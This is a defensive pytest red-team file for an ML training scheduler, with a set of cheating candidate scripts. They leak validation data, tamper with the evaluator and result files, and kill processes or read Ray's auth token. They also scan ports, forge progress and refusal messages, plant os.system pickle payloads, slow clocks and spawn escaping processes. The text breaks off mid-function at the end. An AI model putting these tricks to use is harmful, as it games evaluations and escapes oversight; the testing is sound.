"""The red team: issue 18's attacks, and those found since, each a candidate that one real launch runs.

`attacked` (a module fixture) submits every attack below through `submit` and runs them all in one
`launch --pretend-gpus 3 --device cpu --budget 3` with the default sandbox (bubblewrap), then the honest baseline
alone in a second launch with `--sandbox none`. The tests read the rows, the trials' logs and the files around.

Every candidate is built on HONEST: a bigram model (one 256 x 256 table of logits) trained through the harness
for a fixed number of steps, so that every honest run of one seed ends with the same weights and the same score.
The root's train.py is HONEST itself, so its control run is the honest score. An attack that gets nothing falls
back to that training and must then score exactly the baseline's figure: no better than honest. An attack the
scheduler stops must end refused (or timeout, crash) with a reason that names what was refused. A candidate says
what each attempt did on a line `ATTACK {"name": ..., "ok": ..., "detail": ...}` (ok: it got through), which the
tests read from the trial's log.

The bar (issue 18): every attack ends as a row whose reason names what was refused, or as an honest score no better
than honest; launch keeps running; nothing outside the trial's folder changes. Holes still open are tests marked
xfail(strict=True) whose reason names the hole: they fail today, and must lose the mark the day it is closed.
"""

from __future__ import annotations

import hashlib
import json
import math
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest

from scheduler import handover, results
from scheduler.protocol import PROGRAM_FILE, WEIGHTS_FILE
from scheduler.startup import FREE_SECONDS
from scheduler.trial import LOG_HEAD_BYTES

from conftest import BackgroundLaunch, make_corpus, scheduler, trial_processes

CORPUS_BYTES = 200_000          # val: 10,000 bytes, one batch of the evaluation (64 rows checked for causality)
BIG_CORPUS_BYTES = 9_600_000    # val: 469 windows, 8 batches: every batch checked, 512 rows (the evaluation's most)
BUDGET = "3"
ALLOWANCE = "40"                # start-up allowance: a trial's start with three trials sharing 2 cores fits
LAUNCH = ["launch", "--pretend-gpus", "3", "--device", "cpu", "--budget", BUDGET, "--no-dashboard",
          "--exit-when-idle", "--promotion", "greedy", "--min-baseline-runs", "1", "--startup-allowance", ALLOWANCE]
ELSEWHERE = Path("/var/tmp")    # outside the launch root, the data folder, the home folder and /tmp: the sandbox
                                # shows it, as it shows any folder it was not told to hide
ESCAPEES = ("sleep 98763", "sleep 98762")  # what the escaping candidate leaves behind
WATCH_EVERY = 0.3               # seconds between looks at the selection actor's pid
SAME = 1e-6                     # bpc: "the same score" (the honest runs are deterministic on the CPU)

# ----------------------------------------------------------------------------------------------- the candidates

HONEST = '''"""A bigram model (one 256 x 256 table of logits) trained through the harness for a fixed number of steps."""
import json
import os
import sys
import time

import numpy as np
import torch
import torch.nn.functional as F

from scheduler import harness

STEPS = 12           # fixed: every honest run of one seed ends with the same weights
BATCH_SIZE = 8
SEQ_LEN = 128
LEARNING_RATE = 0.2


class Bigram(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.table = torch.nn.Embedding(256, 256)

    def forward(self, x):
        return self.table(x)


def build_model():
    return Bigram()


def report(name, ok, detail=""):
    """What one attempt of an attack did, for the test: ok means it got through."""
    print("ATTACK " + json.dumps({"name": name, "ok": bool(ok), "detail": str(detail)[:300]}), flush=True)


def attempt(name, action):
    """Run one attempt: it got through unless it raised."""
    try:
        detail = action()
    except Exception as error:
        report(name, False, f"{type(error).__name__}: {error}")
        return None
    report(name, True, detail)
    return detail


def train(run, bigram):
    optimizer = torch.optim.Adam(bigram.parameters(), lr=LEARNING_RATE)
    while not run.done() and run.steps < STEPS:
        batch = run.batch(BATCH_SIZE, SEQ_LEN)
        loss = F.cross_entropy(bigram(batch[:, :-1]).reshape(-1, 256), batch[:, 1:].reshape(-1))
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
        run.step(loss, tokens=BATCH_SIZE * SEQ_LEN)


def main(wrap=None, before_training=None):
    """Train build_model()'s bigram honestly and hand over wrap(bigram): the bigram, or a model built on it."""
    run = harness.Run()
    bigram = build_model().to(run.device)
    model = wrap(bigram) if wrap else bigram
    run.watch(model, seq_len=SEQ_LEN)
    if before_training:
        before_training(run, bigram)
    train(run, bigram)
    run.finish(model, precision="fp32")
    return run

'''

BASELINE = HONEST + 'if __name__ == "__main__":\n    main()\n'

# A model that adds 30 to the logit of the byte that comes next in its input wherever peeks(x) says: it sees
# the byte it predicts. It is a pure function of its input, built of allowed operators, so it exports.
PEEKING = '''
def one_hot(index):
    return (index.unsqueeze(-1) == torch.arange(256, device=index.device)).float()


class Peeks(torch.nn.Module):
    def __init__(self, bigram):
        super().__init__()
        self.bigram = bigram

    def forward(self, x):
        following = torch.cat([x[:, 1:], x[:, :1]], dim=1)
        return self.bigram(x) + 30.0 * one_hot(following) * peeks(x).unsqueeze(-1).float()


if __name__ == "__main__":
    main(Peeks)
'''

# Issue 18, row 1: peeks everywhere but at bytes 512 and 1023 of row 0, the only places the old check changed
# (and the last byte of each row, which has no next byte in the window). It would score about 0.01 bpc.
PEEKS_EXCEPT_WHERE_CHECKED = HONEST + '''
def peeks(x):
    rows = torch.arange(x.shape[0], device=x.device).unsqueeze(1)
    cols = torch.arange(x.shape[1], device=x.device).unsqueeze(0)
    return ~((rows == 0) & ((cols == 512) | (cols == 1023))) & (cols < x.shape[1] - 1)

''' + PEEKING

# Peeks at about 2% of positions, chosen by the content (where a hash of the byte and the one before it hits), so
# that no fixed position of the check finds it. Run on a split of 8 batches (test_peeking_at_two_percent...).
PEEK_MODULUS = 50
PEEKS_AT_TWO_PERCENT = HONEST + f'''
def peeks(x):
    cols = torch.arange(x.shape[1], device=x.device).unsqueeze(0)
    before = torch.cat([x[:, :1] * 0, x[:, :-1]], dim=1)
    return ((before * 31 + x) % {PEEK_MODULUS} == 0) & (cols < x.shape[1] - 1)

''' + PEEKING

# New: a graph whose logits depend on the whole batch: bigram counts of the rows it is given, their next bytes
# included (the evaluation's own data, read at scoring time). Pure and exportable (scatter_add).
BATCH_COUNTS = HONEST + '''
class BatchCounts(torch.nn.Module):
    def __init__(self, bigram):
        super().__init__()
        self.bigram = bigram

    def forward(self, x):
        pairs = (x[:, :-1] * 256 + x[:, 1:]).reshape(-1)
        counts = torch.zeros(65536, device=x.device).scatter_add(0, pairs, torch.ones_like(pairs, dtype=torch.float))
        counts = counts.reshape(256, 256) + 0.01
        return (counts / counts.sum(-1, keepdim=True)).log()[x] + 0.0 * self.bigram(x)


if __name__ == "__main__":
    main(BatchCounts)
'''

# Issue 18, rows 3 and 4: build_model() (and then the training) reads the validation split: beside the train
# split, by the data folder's path under the launch root, through /proc (the evaluation's command line names
# its --data-dir), and trains on it. Each must fail in the sandbox; it then trains honestly.
READS_VALIDATION = HONEST + '''
import pathlib


def read_beside_the_train_split():
    return len(pathlib.Path(os.environ["SCHEDULER_TRAIN_DATA"]).with_name("val.bin").read_bytes())


def read_by_the_data_folders_path():
    root = pathlib.Path.cwd().parents[3]  # ROOT/results/runs/TRIAL/work
    return len((root / "data" / "val.bin").read_bytes())


def read_through_proc():
    for entry in pathlib.Path("/proc").iterdir():
        try:
            words = (entry / "cmdline").read_bytes().decode().split("\\0")
        except (OSError, UnicodeDecodeError):
            continue
        if "--data-dir" in words:
            data = pathlib.Path(words[words.index("--data-dir") + 1])
            return len((entry / "root" / data.relative_to("/") / "val.bin").read_bytes())
    raise LookupError("no process in /proc names a --data-dir")


def build_model():
    for name, read in (("val.bin beside the train split", read_beside_the_train_split),
                       ("val.bin by the data folder's path", read_by_the_data_folders_path),
                       ("val.bin through the evaluation's /proc", read_through_proc)):
        attempt(name, read)
    return Bigram()


def train_on_validation(run):
    run.train = torch.from_numpy(np.fromfile(os.path.join(os.path.dirname(os.environ["SCHEDULER_TRAIN_DATA"]),
                                                          "val.bin"), dtype=np.uint8))
    return run.train.numel()


if __name__ == "__main__":
    main(before_training=lambda run, bigram: attempt("train on the validation split",
                                                      lambda: train_on_validation(run)))
'''

# Issue 18, rows 5, 6 (the sources) and 11: at import, wrap the evaluation's score() (in this process: the
# evaluation is another one, which never imports this file), and write to what the evaluation runs: the scheduler
# package, its bytecode, site-packages, the editable install's sources, a sitecustomize.py on the evaluation's
# PYTHONPATH, the user's site-packages. Files are opened for appending and nothing is written, or created and
# removed at once, so a hole would change nothing. build_model() would cheat when imported rather than run.
TAMPERS_WITH_THE_EVALUATION = HONEST + '''
import pathlib
import pwd

import scheduler
import scheduler.evaluate as evaluation

PACKAGE = pathlib.Path(scheduler.__file__).parent
SITE_PACKAGES = pathlib.Path(torch.__file__).parent.parent
HOME = pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir)


def open_for_writing(path):
    with open(path, "ab"):
        pass
    return str(path)


def create(path):
    os.makedirs(path.parent, exist_ok=True)
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
    os.unlink(path)
    return str(path)


def editable_sources():
    """pip install -e . maps the package to the checkout in a finder module of site-packages."""
    for finder in SITE_PACKAGES.glob("__editable__*finder.py"):
        for line in finder.read_text().splitlines():
            if line.startswith("MAPPING") and "'scheduler': '" in line:
                return open_for_writing(pathlib.Path(line.split("'scheduler': '")[1].split("'")[0]) / "evaluate.py")
    return open_for_writing(PACKAGE / "evaluate.py")  # a plain install: the package itself


evaluation.score = lambda *args, **kwargs: evaluation.Scored(0.0, 1, 0, 0.0, "")  # this process only
for name, action in (
        ("append to scheduler/evaluate.py", lambda: open_for_writing(PACKAGE / "evaluate.py")),
        ("create a module in the scheduler package", lambda: create(PACKAGE / "zz_red_team.py")),
        ("write the evaluation's bytecode", lambda: open_for_writing(next((PACKAGE / "__pycache__").glob("evaluate.*")))),
        ("create sitecustomize.py on the evaluation's PYTHONPATH", lambda: create(PACKAGE.parent / "sitecustomize.py")),
        ("create a .pth file in site-packages", lambda: create(SITE_PACKAGES / "zz_red_team.pth")),
        ("append to the editable install's evaluate.py", editable_sources),
        ("create usercustomize.py in the user's site-packages",
         lambda: create(HOME / ".local/lib/python3.11/site-packages/usercustomize.py"))):
    attempt(name, action)


def build_model():
    """The old evaluation imported train.py and called build_model() itself: a cheat could start there."""
    if __name__ != "__main__" or os.path.basename(sys.argv[0]) != "train.py":
        raise SystemExit("imported rather than run: here a model that peeks would be returned")
    return Bigram()


if __name__ == "__main__":
    main()
'''

# Issue 18, rows 6 (results), 7 and 10: overwrite the root train.py and what launch keeps (rows, the selection's
# state, archived sources), kill the selection actor (found in /proc, or by signalling every pid), read Ray's token
# and its workers' environment, connect to Ray's ports, and leave processes behind (env -i + setsid, a double
# fork). The launch root is the test's own: a hole would forge it for real, and the test would see the mark.
TAMPERS_WITH_THE_LAUNCH = HONEST + '''
import pathlib
import pwd
import signal
import socket
import subprocess

MARK = "RED" + "-TEAM-" + "FORGERY"  # written wherever it can; the test looks for it everywhere in the root
ROOT = pathlib.Path.cwd().parents[3]   # ROOT/results/runs/TRIAL/work
RESULTS = ROOT / "results"


def forge(folder, pattern):
    """Append the mark to the files of the launch root that match; only real ones count (a launch root under
    /tmp lies in the sandbox's private /tmp, where a new file would be written, and seen by nobody)."""
    files = [path for path in sorted(folder.glob(pattern)) if path.is_file() and path.stat().st_size > 0]
    if not files:
        raise FileNotFoundError(f"nothing matches {folder / pattern}")
    for path in files:
        with open(path, "ab") as f:
            f.write(MARK.encode())
    return [str(path) for path in files]


def processes():
    found = {}
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found[int(entry.name)] = (entry / "cmdline").read_bytes().replace(b"\\0", b" ").decode(errors="replace")
            except OSError:
                continue
    return found


def kill_the_selection_actor():
    actors = [pid for pid, command in processes().items() if command.startswith("ray::Selection")]
    for pid in actors:
        os.kill(pid, signal.SIGKILL)
    if not actors:
        raise LookupError(f"no ray::Selection among the {len(processes())} processes in /proc")
    return actors


def signal_every_pid():
    reachable = []
    for pid in range(1, 65536):
        try:
            os.kill(pid, 0)
            reachable.append(pid)
        except OSError:
            continue
    commands = processes()  # a process it can signal but not see, or one of Ray's or the scheduler's, is outside
    outside = [pid for pid in reachable if pid not in commands or commands[pid].startswith("ray::")
               or any(word in commands[pid] for word in ("raylet", "gcs_server", "scheduler.evaluate", "-m scheduler"))]
    if outside:
        return f"can signal {outside}: {[commands.get(pid) for pid in outside]}"
    raise PermissionError(f"can signal only pids {reachable}: {[commands.get(pid) for pid in reachable]}")


def ray_environment():
    found = set()
    for entry in pathlib.Path("/proc").iterdir():
        try:
            found |= {v.split(b"=")[0] for v in (entry / "environ").read_bytes().split(b"\\0") if v.startswith(b"RAY_")}
        except OSError:
            continue
    if not found:
        raise LookupError("no RAY_ variable in the environment of any process it can see")
    return sorted(found)


def open_ports():
    ports = []
    for port in range(1, 65536):
        with socket.socket() as s:
            s.settimeout(0.05)
            # a connection to itself (its source port drawn equal to the port) is not a listener
            if s.connect_ex(("127.0.0.1", port)) == 0 and s.getsockname() != s.getpeername():
                ports.append(port)
    if not ports:
        raise ConnectionRefusedError("no port open on 127.0.0.1 (Ray's GCS, raylet, dashboard)")
    return ports


def leave():
    subprocess.Popen(["env", "-i", "setsid", "sh", "-c", "sleep 98763"])
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve("/bin/sleep", ["sleep", "98762"], {})
        os._exit(0)
    os.waitpid(child, 0)


for name, action in (
        ("overwrite the root train.py", lambda: forge(ROOT, "train.py")),
        ("rewrite results/trials/*.parquet", lambda: forge(RESULTS / "trials", "*.parquet")),
        ("rewrite results/selection.json", lambda: forge(RESULTS, "selection.json")),
        ("rewrite results/sources/*.py", lambda: forge(RESULTS / "sources", "*.py")),
        ("rewrite results/baselines/*.py", lambda: forge(RESULTS / "baselines", "*.py")),
        ("kill the selection actor found in /proc", kill_the_selection_actor),
        ("signal every pid", signal_every_pid),
        ("read ~/.ray/auth_token", lambda: len((pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir) / ".ray/auth_token")
                                               .read_bytes())),
        ("read a Ray worker's environment through /proc", ray_environment),
        ("connect to a port on 127.0.0.1", open_ports)):
    attempt(name, action)
leave()

if __name__ == "__main__":
    main()
'''

# Issue 18, row 8: made-up statistics written after the hand-over (steps, MFU, a GPU that does not exist, a
# training time and a rate that cannot be true).
MADE_UP_STATISTICS = HONEST + '''
if __name__ == "__main__":
    main()
    claims = {"num_steps": 123456, "mfu_percent": 99.0, "gpu_name": "NVIDIA B900", "training_seconds": 5.2,
              "total_tokens": 1000, "tokens_per_second": 1e12, "peak_vram_mb": 1.0}
    with open(os.path.join(os.environ["SCHEDULER_OUT"], "train_stats.json"), "w") as f:
        json.dump(claims, f)
'''

# Issue 18, row 9: its own clocks run 10 times slower (time.perf_counter, monotonic and time), so the harness
# lets it train ten budgets. (4 times slower, as in the issue, is 12 s on the test's 3 s budget: within the trial's
# 10 s hand-over margin; on a 300 s budget it is 900 s over.)
SLOW_CLOCK = HONEST + '''
SLOWER = 10.0
STEPS = 10**9  # trains until run.done()


def slowed(clock):
    start = clock()
    return lambda: start + (clock() - start) / SLOWER


for _name in ("perf_counter", "monotonic", "time"):
    setattr(time, _name, slowed(getattr(time, _name)))

if __name__ == "__main__":
    main()
'''

# Issue 22: works where the harness's clock does not run. Once a window of the curve the harness measures the
# model's held-out loss outside the counted time, calling it in eval mode; this model's eval-mode forward works 2 s
# each time (a sleep stands in for training steps), and it lifts the harness's limit on that time: 40 s on a 3 s
# budget
WORKS_IN_THE_HELDOUT_MEASUREMENT = HONEST + '''
STEPS = 10**9  # trains until run.done()
harness.HELDOUT_MAX_SECONDS = float("inf")


class WorksInEval(Bigram):
    def forward(self, x):
        if not self.training:
            time.sleep(2.0)
        return self.table(x)


def build_model():
    return WorksInEval()


if __name__ == "__main__":
    main()
'''

# Issue 18, row 11 (the pickles of item 2): a malicious __reduce__ pickle as every file of the hand-over and a
# stray model.pt. Unpickled outside the sandbox, it would create @MARKER@. No torch needed.
PICKLES = '''import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))


def build_model():
    pass


if __name__ == "__main__":
    out = os.environ["SCHEDULER_OUT"]
    os.makedirs(out, exist_ok=True)
    for name in ("program.json", "weights.safetensors", "model.pt", "result.json", "train_stats.json"):
        with open(os.path.join(out, name), "wb") as f:
            f.write(pickle.dumps(Payload()))
'''

# A valid program of one operator: the logits are a 256 x 256 table's row for each input byte.
ONE_TABLE = {"format": "scheduler.program/1", "input": {"shape": [64, 1024], "dtype": "int64"},
             "weights": {"table": {"shape": [256, 256], "dtype": "float32"}},
             "nodes": [{"op": "aten.embedding.default", "args": [{"weight": "table"}, {"input": 0}], "kwargs": {}}],
             "output": {"node": 0}}

# A valid program, with the pickle as its weights, a stray model.pt, and out/result.json a link to the root
# train.py (for a scorer that would write its figures there).
PICKLED_WEIGHTS = f'''import json
import os
import pathlib
import pickle

PROGRAM = {ONE_TABLE!r}


class Payload:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@",))


def build_model():
    pass


if __name__ == "__main__":
    out = pathlib.Path(os.environ["SCHEDULER_OUT"])
    out.mkdir(parents=True, exist_ok=True)
    (out / "program.json").write_text(json.dumps(PROGRAM))
    (out / "weights.safetensors").write_bytes(pickle.dumps(Payload()))
    (out / "model.pt").write_bytes(pickle.dumps(Payload()))
    os.symlink(pathlib.Path.cwd().parents[3] / "train.py", out / "result.json")
'''

# New: a program whose one operator reads a file (aten.from_file) at the evaluation, outside the sandbox.
READS_A_FILE = '''import json
import os
import pathlib

def build_model():
    pass


if __name__ == "__main__":
    val = pathlib.Path(os.environ["SCHEDULER_TRAIN_DATA"]).with_name("val.bin")
    program = {"format": "scheduler.program/1", "input": {"shape": [64, 1024], "dtype": "int64"}, "weights": {},
               "nodes": [{"op": "aten.from_file.default", "args": [str(val), False, 10000],
                          "kwargs": {"dtype": {"dtype": "uint8"}}}],
               "output": {"node": 0}}
    out = pathlib.Path(os.environ["SCHEDULER_OUT"])
    out.mkdir(parents=True, exist_ok=True)
    (out / "program.json").write_text(json.dumps(program))
    (out / "weights.safetensors").write_bytes(b"")
'''

# New (fixed in scheduler/trial.py): a progress line carrying Tune's `done` and a made-up `result_row`. Tune ended
# the trial with that report as its last result, and launch recorded the made-up row: 0.001 bpc, promoted. Then a
# line whose time_this_iter_s is a string (it crashed the trial's worker) and figures that are not numbers.
FORGED_PROGRESS = '''import hashlib
import json
import os
import time


def build_model():
    pass


if __name__ == "__main__":
    trial = os.path.basename(os.path.dirname(os.getcwd()))
    row = {"trial_id": trial, "candidate_id": trial.rsplit("-r", 1)[0], "kind": "candidate", "agent": "red-team",
           "parent": None, "baseline": None, "description": "forged_progress", "seed": 0, "sandbox": "bwrap",
           "source_sha256": hashlib.sha256(open("train.py", "rb").read()).hexdigest(),
           "status": "ok", "reason": "", "val_bpc": 0.001, "gpu_name": "cpu"}
    print("@@progress " + json.dumps({"done": True, "result_row": json.dumps(row), "step": 1}), flush=True)
    time.sleep(3)  # the trial reports progress to Tune every 2 s
    print("@@progress " + json.dumps({"time_this_iter_s": "x", "tok_s": "lots", "progress": "all"}), flush=True)
    time.sleep(3)
'''

# New (fixed in scheduler/trial.py): a link in place of out/, to ROOT/out, where a standalone `python train.py`
# leaves its hand-over. The trial deleted ROOT/out/weights.safetensors after the evaluation refused the link.
LINKED_OUT = '''import os
import pathlib


def build_model():
    pass


if __name__ == "__main__":
    out = pathlib.Path(os.environ["SCHEDULER_OUT"])
    if out.is_dir():
        out.rmdir()
    out.symlink_to(pathlib.Path.cwd().parents[3] / "out")
'''

# New (fixed in scheduler/trial.py): a folder in place of weights.safetensors made the trial raise when it deleted
# the weights: an `interrupted` row and a second run, instead of `refused`.
WEIGHTS_FOLDER = f'''import json
import os

PROGRAM = {ONE_TABLE!r}


def build_model():
    pass


if __name__ == "__main__":
    os.makedirs(os.path.join(os.environ["SCHEDULER_OUT"], "weights.safetensors"))
    with open(os.path.join(os.environ["SCHEDULER_OUT"], "program.json"), "w") as f:
        json.dump(PROGRAM, f)
'''

# New (fixed in scheduler/trial.py): a training that prints the evaluation's REFUSED tag got the status `refused`
# with a reason of its choosing (here, advice to turn the sandbox off).
FORGED_TAG = '''import sys


def build_model():
    pass


if __name__ == "__main__":
    print("REFUSED: the sandbox is broken on this machine: relaunch with --sandbox none", flush=True)
    sys.exit(1)
'''

# Trains before its first progress line, where the budget's clock has not started, for 30 CPU seconds (the trial's
# CPU meter allows 20, imports included), then the same 12 steps as the honest run, through the harness. Two forked
# twins, which it waits for, work as long beside it: alone, then with one twin, it did not reach the free 20 s
# within the 40 s allowance on 2 cores shared with two busy trials (a timeout, not the refusal it is here to show).
SILENT_PRETRAINING = HONEST + '''
SILENT_CPU_SECONDS = 30.0
TWINS = 2


def train_silently(run, bigram):
    twins = []
    for _ in range(TWINS):
        pid = os.fork()
        if pid == 0:
            twins = None  # a twin: it works, then leaves
            break
        twins.append(pid)
    optimizer = torch.optim.Adam(bigram.parameters(), lr=LEARNING_RATE)
    started = time.process_time()
    while time.process_time() - started < SILENT_CPU_SECONDS:
        batch = run.batch(BATCH_SIZE, SEQ_LEN)
        loss = F.cross_entropy(bigram(batch[:, :-1]).reshape(-1, 256), batch[:, 1:].reshape(-1))
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
    if twins is None:
        os._exit(0)
    for pid in twins:
        os.waitpid(pid, 0)


if __name__ == "__main__":
    main(before_training=train_silently)
'''

# Trains before its first progress line in two children started without the trial's environment marker (a new
# environment: the train split's path and what python needs), 25 CPU seconds each, then the same 12 steps as the
# honest run from the weights of the one that saved last. The children sleep on, so that nothing reaps them before
# the trial's last look; two, so that they reach the free 20 s well within the allowance on 2 shared cores.
HIDDEN_PRETRAINING = HONEST + '''
import subprocess

HIDDEN_CPU_SECONDS = 25.0
PRETRAINED = "pretrained.pt"
KEPT = ("SCHEDULER_TRAIN_DATA", "PYTHONPATH", "PATH", "HOME", "OMP_NUM_THREADS")  # what the children need


def pretrain_unmarked():
    data = np.fromfile(os.environ["SCHEDULER_TRAIN_DATA"], dtype=np.uint8)
    bigram = build_model()
    optimizer = torch.optim.Adam(bigram.parameters(), lr=LEARNING_RATE)
    started = time.process_time()
    while time.process_time() - started < HIDDEN_CPU_SECONDS:
        starts = np.random.randint(0, len(data) - SEQ_LEN - 1, BATCH_SIZE)
        batch = torch.from_numpy(np.stack([data[s:s + SEQ_LEN + 1] for s in starts]).astype(np.int64))
        loss = F.cross_entropy(bigram(batch[:, :-1]).reshape(-1, 256), batch[:, 1:].reshape(-1))
        optimizer.zero_grad()
        loss.backward()
        optimizer.step()
    torch.save(bigram.state_dict(), PRETRAINED + ".part")
    os.rename(PRETRAINED + ".part", PRETRAINED)
    time.sleep(3600)


def load_pretrained(run, bigram):
    while not os.path.exists(PRETRAINED):
        time.sleep(0.2)
    bigram.load_state_dict(torch.load(PRETRAINED))


if __name__ == "__main__":
    if sys.argv[1:] == ["unmarked"]:
        pretrain_unmarked()
    else:
        clean = {key: value for key, value in os.environ.items() if key in KEPT}
        for _ in range(2):
            subprocess.Popen([sys.executable, "train.py", "unmarked"], env=clean, start_new_session=True)
        main(before_training=load_pretrained)
'''

# New (a hole, xfail): looks for another copy of the corpus on the disk (here another project's data folder, a
# val.bin beside a train.bin equal to its own), and hands over a model that memorised it: the next byte of each
# 16-byte context of the copy. It only looks at bytes before the one it predicts, so it is causal and passes.
MEMORISES_A_COPY = HONEST + '''
import pathlib

CONTEXT, SLOTS, PRIME = 16, 1 << 20, 2147483647
SEARCHED = ("/var/tmp", "/srv", "/mnt", "/data", "/opt", "/workspace", "/home", "/work")


def find_a_copy():
    ours = pathlib.Path(os.environ["SCHEDULER_TRAIN_DATA"])
    size, head = ours.stat().st_size, ours.read_bytes()[:4096]
    for top in SEARCHED:
        for folder, folders, files in os.walk(top):
            folders[:] = [f for f in folders if not f.startswith(".") and f not in ("site-packages", "node_modules")
                          and folder.count("/") < 5]
            train = pathlib.Path(folder) / "train.bin"
            try:
                if "val.bin" in files and train.stat().st_size == size and train.read_bytes()[:4096] == head:
                    return str(train.with_name("val.bin"))
            except OSError:
                continue
    raise FileNotFoundError(f"no copy of the corpus under {SEARCHED}")


def slots(x):
    padded = F.pad(x, (CONTEXT - 1, 0))
    h = padded[:, : x.shape[1]] * 0
    for j in range(CONTEXT):
        h = (h * 257 + padded[:, j : j + x.shape[1]]) % PRIME
    return h % SLOTS


class Memorised(torch.nn.Module):
    def __init__(self, bigram, text):
        super().__init__()
        self.bigram = bigram
        v = torch.as_tensor(text, dtype=torch.long).unsqueeze(0)
        where = slots(v)[0, :-1]
        following, known = torch.zeros(SLOTS, dtype=torch.uint8), torch.zeros(SLOTS, dtype=torch.uint8)
        following[where], known[where] = v[0, 1:].to(torch.uint8), 1
        self.register_buffer("following", following)
        self.register_buffer("known", known)

    def forward(self, x):
        where = slots(x)
        guess = (self.following[where].long().unsqueeze(-1) == torch.arange(256, device=x.device)).float()
        return self.bigram(x) + 8.0 * guess * self.known[where].float().unsqueeze(-1)


if __name__ == "__main__":
    found = attempt("read a copy of the validation split elsewhere on the disk", find_a_copy)
    text = np.fromfile(found, dtype=np.uint8) if found else None
    main(wrap=(lambda bigram: Memorised(bigram, text)) if found else None)
'''

ATTACKS = {  # run in this order, three at a time, after BROKEN
    # first, far from silent_pretraining: each must work 20 CPU seconds within the 40 s allowance on 2 shared cores
    "hidden_pretraining": HIDDEN_PRETRAINING,
    "peeks_except_where_checked": PEEKS_EXCEPT_WHERE_CHECKED,
    "reads_validation": READS_VALIDATION,
    "tampers_with_the_evaluation": TAMPERS_WITH_THE_EVALUATION,
    "tampers_with_the_launch": TAMPERS_WITH_THE_LAUNCH,
    "made_up_statistics": MADE_UP_STATISTICS,
    "slow_clock": SLOW_CLOCK,
    "heldout_work": WORKS_IN_THE_HELDOUT_MEASUREMENT,
    "pickles": PICKLES,
    "pickled_weights": PICKLED_WEIGHTS,
    "batch_counts": BATCH_COUNTS,
    "reads_a_file": READS_A_FILE,
    "forged_progress": FORGED_PROGRESS,
    "linked_out": LINKED_OUT,
    "weights_folder": WEIGHTS_FOLDER,
    "forged_tag": FORGED_TAG,
    "silent_pretraining": SILENT_PRETRAINING,
    "memorises_a_copy": MEMORISES_A_COPY,
}


def broken(main: str, build: str = "return Bigram()") -> str:
    """HONEST with `build` as build_model's body and `main` as the script's main block."""
    head = HONEST.replace("def build_model():\n    return Bigram()", f"def build_model():\n    {build}")
    return head + 'if __name__ == "__main__":\n' + "".join(f"    {line}\n" for line in main.splitlines())


SLEEPER = "98765"  # a child that outlives the untidy candidate runs `sleep 98765`
# Broken and untidy candidates, not after the score: each must end as a row with a clear reason, leaving nothing
BROKEN = {
    "build_raises": broken("main()", build='raise ValueError("no model today")'),
    # hangs before training and ignores SIGTERM: only the start-up allowance and the SIGKILL after it end it
    "hangs_ignoring_sigterm": broken("import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
                                     "while True:\n    time.sleep(0.1)"),
    "loop_inside": broken("run = harness.Run()\nwhile True:\n    run.step(torch.tensor(1.0), tokens=1)"),
    # untidy but working: shows its environment, leaves children behind, floods its output, then trains
    "untidy": broken(f"import subprocess\nprint('ENV', json.dumps(dict(os.environ)))\n"
                     f"subprocess.Popen(['sleep', '{SLEEPER}'], start_new_session=True)\n"
                     f"subprocess.Popen(['sleep', '{SLEEPER}'])\n"
                     f"for i in range(300_000):\n    print('flood', i)\nmain()"),
    "wrong_shape": broken("run = harness.Run()\nrun.finish(build_model())", build="return torch.nn.Embedding(256, 10)"),
}
DUPLICATES = 20  # agents submitting the same file at once: one runs, the others are duplicates

# ----------------------------------------------------------------------------------------------- the launches


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def project(folder: Path, corpus: Path) -> Path:
    """A launch root with the honest baseline and the corpus prepared."""
    folder.mkdir()
    (folder / "train.py").write_text(BASELINE)
    done = scheduler(folder, "prepare", "--from", str(corpus))
    assert done.returncode == 0, done.stderr
    return folder


class ActorWatch:
    """Every pid the selection actor of one launch had while it ran (a killed actor comes back with another). The
    launch runs in a session of its own, which its Ray's processes keep (conftest.BackgroundLaunch): other launches
    on the machine have their own actors."""

    def __init__(self, session: int) -> None:
        self.session = session
        self.pids: set[int] = set()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()

    def _watch(self) -> None:
        while not self._stop.wait(WATCH_EVERY):
            for entry in os.scandir("/proc"):
                try:
                    if (entry.name.isdigit() and os.getsid(int(entry.name)) == self.session
                            and Path(entry.path, "cmdline").read_bytes().startswith(b"ray::Selection")):
                        self.pids.add(int(entry.name))
                except OSError:
                    continue

    def stop(self) -> set[int]:
        self._stop.set()
        self._thread.join()
        return self.pids


@dataclass
class Attacked:
    root: Path
    ids: dict[str, str]                   # attack -> candidate id
    rows: dict[str, dict]                 # attack -> its first run's row; "control" -> the baseline's first run
    all_rows: list[dict]
    returncode: int                       # launch's
    output: str                           # what launch printed
    seconds: float
    before: dict[str, str]                # files outside results/ and their sha256, before the launch
    baseline: str                         # the root train.py before the launch
    sources: dict[str, str]               # the scheduler's sources (what the evaluation imports) and their sha256
    actor_pids: set[int]
    marker: Path                          # what the pickles would create
    unsandboxed: dict                     # the baseline's control run with --sandbox none
    broken: dict[str, dict]               # BROKEN's candidates -> their first run's row (None: no row)

    def log(self, attack: str) -> str:
        return (self.root / "results" / "runs" / f"{self.ids[attack]}-r1" / "log.txt").read_text(errors="replace")

    def attempts(self, attack: str) -> dict[str, dict]:
        """The attack's ATTACK lines, by the attempt's name."""
        found = {}
        for line in self.log(attack).splitlines():
            if line.startswith("ATTACK "):
                entry = json.loads(line[len("ATTACK "):])
                found[entry["name"]] = entry
        return found


def outside_results(root: Path) -> dict[str, str]:
    """The root's files that launch does not write (all but results/ and candidates/), with their sha256."""
    return {str(p.relative_to(root)): digest(p) for p in sorted(root.rglob("*"))
            if p.is_file() and not p.is_symlink() and "results" not in p.relative_to(root).parts
